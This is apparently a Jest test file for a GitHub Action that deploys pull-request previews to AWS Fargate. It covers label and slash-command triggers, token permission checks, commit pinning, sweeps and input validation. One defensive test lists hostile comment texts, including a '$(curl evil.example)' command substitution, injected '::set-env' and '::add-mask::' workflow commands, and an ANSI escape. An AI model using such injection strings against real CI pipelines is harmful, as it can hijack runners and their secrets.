import { describe, expect, test } from '@jest/globals'
import type { Sandbox } from '../../sandbox/src/start.ts'
import { readTagged, tagsByKey } from '../../src/ownership.ts'
import { deploy, inSandbox, liveTasks, pass, start, until, WALKTHROUGH, writesOf } from './site.ts'

type Happened = ReturnType<Sandbox['github']['event']>
type Inputs = Readonly<Record<string, string>>

const LABEL = { 'preview-label': 'preview' }
const COMMAND = { 'preview-command': '/deploy' }
const QUICK = { ...WALKTHROUGH, 'wait-for': 'none' }

async function on(sandbox: Sandbox, event: Happened, inputs: Inputs = {}, permissions?: Record<string, 'read'>) {
  if (permissions !== undefined) sandbox.github.setPermissions(permissions)
  return deploy(sandbox, { ...QUICK, ...inputs }, { event, github: event.github })
}

async function says(sandbox: Sandbox, text: string): Promise<Happened> {
  await pass(5000)
  return sandbox.github.event('issue_comment', 'created', 7, text)
}

function environmentsIn(sandbox: Sandbox): (string | undefined)[] {
  return liveTasks(sandbox)
    .map(({ tags = [] }) => readTagged(tagsByKey(tags), sandbox.github.repository)?.environment)
    .sort()
}

describe('while a deployment goes on', () => {
  test.concurrent('the label is taken away: nothing of it is left', async () => {
    await inSandbox({ knobs: { timings: { pull: 3000 } } }, async (sandbox) => {
      const { github } = sandbox
      github.openPull({ number: 7, labels: ['preview'] })
      const event = github.event('pull_request', 'labeled', 7, { label: 'preview' })
      const running = start(sandbox, { ...WALKTHROUGH, ...LABEL }, { event, github: event.github })
      await until(() => sandbox.ecs.tasks().length > 0)
      github.unlabelPull(7, 'preview')
      const { outcome, outputs } = await running.done

      expect([outcome, outputs.mode, outputs.commit]).toEqual(['success', 'none', ''])
      expect(outputs.skipped).toBe('Skipped: the pull request no longer has the label `preview`.')
      expect(liveTasks(sandbox)).toEqual([])
    })
  })

  test.concurrent('the label is taken away, and a command deploys again: that stays', async () => {
    await inSandbox({ knobs: { timings: { pull: 60_000 } } }, async (sandbox) => {
      const { github } = sandbox
      github.openPull({ number: 7, labels: ['preview'] })
      const both = { ...LABEL, ...COMMAND }
      const labeled = github.event('pull_request', 'labeled', 7, { label: 'preview' })
      const running = start(sandbox, { ...WALKTHROUGH, ...both }, { event: labeled, github: labeled.github })
      await until(() => sandbox.ecs.tasks().length > 0)
      github.unlabelPull(7, 'preview')
      const { outcome } = await on(sandbox, await says(sandbox, '/deploy'), both)
      expect([outcome, liveTasks(sandbox).length]).toEqual(['success', 1])
      const { outputs } = await running.done

      expect(outputs.skipped).toBe('Skipped: the pull request no longer has the label `preview`.')
      expect(environmentsIn(sandbox)).toEqual(['pr-7'])
    })
  })

  test.concurrent('the commit that a command has deployed is no longer the head', async () => {
    await inSandbox({ knobs: { timings: { pull: 3000 } } }, async (sandbox) => {
      const { sha } = sandbox.github.openPull({ number: 7 })
      const event = await says(sandbox, '/deploy')
      const inputs = { ...WALKTHROUGH, ...COMMAND, commit: sha }
      const running = start(sandbox, inputs, { event, github: event.github })
      await until(() => sandbox.ecs.tasks().length > 0)
      const pushed = sandbox.github.pushToPull(7)
      const { outcome, outputs } = await running.done

      expect([outcome, outputs.skipped]).toEqual([
        'success',
        `Skipped: the head is commit ${pushed.slice(0, 7)} now, not ${sha.slice(0, 7)} as in \`commit\`.`
      ])
      expect(liveTasks(sandbox)).toEqual([])
    })
  })
})

describe('a command', () => {
  test.concurrent.each([
    ['contents', { 'pull-requests': 'write' }, /did not say which commit .*`permissions: contents: read`/],
    ['pull-requests', { contents: 'read' }, /may come from a fork, and GitHub did not say/]
  ] as const)('deploys nothing where the token may not read %s', async (_, permissions, why) => {
    await inSandbox({ github: { permissions } }, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const { outcome, outputs } = await on(sandbox, await says(sandbox, '/deploy'), COMMAND)
      expect([outcome, outputs.skipped, writesOf(sandbox)]).toEqual(['success', expect.stringMatching(why), []])
    })
  })

  test.concurrent('deploys nothing without a token, or where GitHub does not answer', async () => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const event = await says(sandbox, '/deploy')
      const silent = await on(sandbox, event, { ...COMMAND, 'github-token': '' })
      sandbox.github.faults.push({ call: '*', status: 502, times: 1000 })
      const down = await on(sandbox, event, COMMAND)
      for (const { outcome, outputs } of [silent, down]) {
        expect([outcome, outputs.skipped]).toEqual([
          'success',
          expect.stringMatching(/did not say whether the author of the comment has write access/)
        ])
      }
      expect(writesOf(sandbox)).toEqual([])
    })
  })

  test.concurrent('is not answered where the token may not, which fails nothing', async () => {
    await inSandbox({ github: { permissions: { contents: 'read', 'pull-requests': 'read' } } }, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const { outcome, outputs, annotations } = await on(sandbox, await says(sandbox, '/deploy'), {
        ...COMMAND,
        'pr-comment': 'false',
        'github-deployment': 'false'
      })
      expect([outcome, outputs.mode]).toEqual(['success', 'deploy'])
      expect(annotations.map(({ message }) => message)).toEqual([
        expect.stringMatching(/^The comment got no reaction\. .*`pull-requests: write`/)
      ])
    })
  })

  test.concurrent('of a name that another account has meanwhile is refused', async () => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const event = await says(sandbox, '/deploy')
      const { comment } = event.payload as { comment: { user: { id: number } } }
      const payload = { ...event.payload, comment: { ...comment, user: { ...comment.user, id: 1 } } }
      const { outputs } = await on(sandbox, { ...event, payload }, COMMAND)
      expect([outputs.skipped, writesOf(sandbox)]).toEqual([expect.stringMatching(/does not have write access/), []])
    })
  })

  test.concurrent('whose deployment fails is answered, and the comment says why', async () => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const comment = sandbox.github.comment(7, 'octocat', '/deploy')
      await pass(5000)
      const event = sandbox.github.event('issue_comment', 'created', 7, sandbox.github.comment(7, 'octocat', '/deploy'))
      const id = (event.payload as { comment: { id: number } }).comment.id
      const { outcome } = await on(sandbox, event, { ...COMMAND, 'registry-password': 'wrong' })
      expect([outcome, comment.number]).toEqual(['failure', 7])
      expect(sandbox.github.reactions(id)).toEqual(['github-actions[bot] eyes', 'github-actions[bot] -1'])
      expect(sandbox.github.comments(7).at(-1)?.body).toContain('Not deployed')
    })
  })

  test.concurrent('that stops removes only what follows its pull request', async () => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      await on(sandbox, sandbox.github.event('push', 'main'), { environment: 'production' })
      const event = await says(sandbox, '/deploy stop')
      const plain = await on(sandbox, event, { ...COMMAND, environment: 'production' })
      const bound = await on(sandbox, event, { ...COMMAND, environment: 'production', 'follow-ref': 'true' })
      expect([plain.outputs.skipped, bound.outputs.skipped]).toEqual([
        expect.stringMatching(/refs\/pull\/7 is to have no environment, but the environment does not follow it/),
        expect.stringMatching(/environment production does not follow refs\/pull\/7/)
      ])
      expect(environmentsIn(sandbox)).toEqual(['production'])
    })
  })
})

describe('the text of a comment', () => {
  const NASTY = [
    '/deploy ::error::mine',
    '/deploy $(curl evil.example)',
    'mine ##[error]mine',
    '/deploy\n::add-mask::mine\n::set-env name=PATH::mine',
    '/deploy\u001b[31mmine'
  ]

  test.concurrent.each(NASTY)('%j reaches no log, output, comment or variable', async (text) => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const event = await says(sandbox, text)
      for (const inputs of [COMMAND, { ...COMMAND, mode: 'decide' }]) {
        const result = await on(sandbox, event, inputs)
        expect(JSON.stringify({ ...result, env: {} })).not.toMatch(/mine|evil/)
      }
      const written = sandbox.github.comments(7).filter(({ author }) => author.type === 'Bot')
      expect(JSON.stringify(written)).not.toMatch(/mine|evil/)
    })
  })
})

describe('commit', () => {
  test.concurrent('on a branch gives way to its head', async () => {
    await inSandbox({}, async (sandbox) => {
      const { github } = sandbox
      const older = github.pushBranch('topic')
      const head = github.pushBranch('topic')
      const event = github.event('workflow_dispatch', 'topic')
      const moved = await on(sandbox, event, { commit: older })
      expect([moved.outcome, moved.outputs.skipped, writesOf(sandbox)]).toEqual([
        'success',
        `Skipped: the head is commit ${head.slice(0, 7)} now, not ${older.slice(0, 7)} as in \`commit\`.`,
        []
      ])
      const current = await on(sandbox, event, { commit: head.toUpperCase() })
      expect([current.outputs.mode, current.outputs.commit]).toEqual(['deploy', head])
      github.deleteBranch('topic')
      const gone = await on(sandbox, event, { commit: head })
      expect(gone.outputs.skipped).toBe('Skipped: refs/heads/topic is deleted.')
    })
  })

  test.concurrent('is what the tags, the comment and the Deployment have, whatever the event is at', async () => {
    await inSandbox({}, async (sandbox) => {
      const { github } = sandbox
      const { sha } = github.openPull({ number: 7, labels: ['preview'] })
      const event = github.event('pull_request', 'labeled', 7, { label: 'preview' })
      // The commit of the run is the merge of the head into the base.
      const { outputs } = await on(sandbox, event, { ...LABEL, commit: event.github.sha ?? '' })
      expect([outputs.commit, event.github.sha === sha]).toEqual([sha, false])
      expect(github.deployments().map((deployment) => deployment.sha)).toEqual([sha])
      expect(github.comments(7)[0]?.body).toContain(sha.slice(0, 7))
      expect(liveTasks(sandbox).map(({ tags = [] }) => tagsByKey(tags)['run-on-fargate:commit'])).toEqual([sha])
    })
  })
})

describe('a sweep', () => {
  test.concurrent('removes what lacks the label, unless a command may deploy it, or there is no label', async () => {
    await inSandbox({}, async (sandbox) => {
      const { github } = sandbox
      github.openPull({ number: 7, labels: ['Preview'] })
      github.openPull({ number: 8, labels: ['bug'] })
      for (const number of [7, 8]) await on(sandbox, github.event('pull_request', 'opened', number))
      await on(sandbox, github.event('push', 'main'))
      for (const [inputs, left] of [
        [{}, ['main', 'pr-7', 'pr-8']],
        [{ ...LABEL, ...COMMAND }, ['main', 'pr-7', 'pr-8']],
        [LABEL, ['main', 'pr-7']]
      ] as const) {
        const { outcome } = await deploy(sandbox, { mode: 'sweep', ...inputs })
        expect([inputs, outcome, environmentsIn(sandbox)]).toEqual([inputs, 'success', left])
      }
    })
  })

  test.concurrent('with the label does not remove what is labeled again meanwhile', async () => {
    await inSandbox({}, async (sandbox) => {
      const { github } = sandbox
      github.openPull({ number: 7 })
      await on(sandbox, github.event('pull_request', 'opened', 7))
      const running = start(sandbox, { mode: 'sweep', ...LABEL })
      await until(() => github.requests.some(({ path }) => path.startsWith('/repos/acme/space/pulls')))
      github.labelPull(7, 'preview')
      expect((await running.done).outcome).toBe('success')
      expect(environmentsIn(sandbox)).toEqual(['pr-7'])
    })
  })
})

describe('inputs', () => {
  test.concurrent.each([
    [{ commit: 'f3c2a1b' }, /Invalid value "f3c2a1b" for `commit`\.\nExpected the full SHA of a commit/],
    [{ commit: 'main' }, /for `commit`/],
    [{ commit: 'g'.repeat(40) }, /for `commit`/],
    [
      { 'preview-command': 'deploy' },
      /Invalid value "deploy" for `preview-command`\.\n.*begins with no letter or digit/
    ],
    [{ 'preview-command': '/a\n/b' }, /for `preview-command`/],
    [{ 'preview-command': '/`x`' }, /for `preview-command`/],
    [{ 'preview-label': 'x'.repeat(51) }, /for `preview-label`\.\nExpected the name of one label/],
    [{ 'preview-label': 'a\nb' }, /for `preview-label`/]
  ])('%j is an error, in each mode that decides, before any call', async (wrong, message) => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const event = sandbox.github.event('pull_request', 'opened', 7)
      for (const mode of ['auto', 'decide']) {
        const { outcome, annotations } = await on(sandbox, event, { mode, ...wrong } as Inputs)
        expect([outcome, annotations.map((each) => each.message)]).toEqual([
          'failure',
          [expect.stringMatching(message)]
        ])
      }
      expect(sandbox.aws.calls).toEqual([])
    })
  })

  test.concurrent('that other modes do not use are warned about', async () => {
    await inSandbox({}, async (sandbox) => {
      sandbox.github.openPull({ number: 7 })
      const event = sandbox.github.event('pull_request', 'opened', 7)
      const { outcome, annotations } = await on(sandbox, event, { mode: 'deploy', ...LABEL, ...COMMAND })
      expect([outcome, annotations.map(({ message }) => message)]).toEqual([
        'success',
        [
          '`preview-label` is ignored with `mode: deploy`, which deploys on every event.',
          '`preview-command` is ignored with `mode: deploy`, which deploys on every event.'
        ]
      ])
    })
  })
})

test.concurrent('without these inputs, a run asks GitHub nothing more', async () => {
  await inSandbox({}, async (sandbox) => {
    sandbox.github.openPull({ number: 7, labels: ['preview'] })
    await on(sandbox, sandbox.github.event('pull_request', 'labeled', 7, { label: 'preview' }))
    await on(sandbox, await says(sandbox, '/deploy'))
    await on(sandbox, sandbox.github.event('push', 'main'))
    const paths = sandbox.github.requests.map(({ path }) => path)
    expect(paths.length).toBeGreaterThan(5)
    expect(paths.filter((path) => /activity|collaborators|reactions|git\/ref/.test(path))).toEqual([])
  })
})
